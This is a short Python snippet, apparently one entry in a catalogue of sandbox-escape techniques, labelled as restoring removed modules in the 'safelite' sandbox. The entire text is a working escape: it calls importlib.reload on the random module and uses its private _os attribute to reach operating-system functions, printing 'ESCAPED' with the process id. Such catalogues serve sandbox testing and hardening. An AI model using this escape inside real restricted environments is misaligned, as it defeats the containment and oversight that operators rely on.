# technique: importlib.reload restores what a sandbox has removed
# goal: import
# source: safelite, reload of builtins
import importlib
import random
print('ESCAPED pid=%d' % importlib.reload(random)._os.getpid())
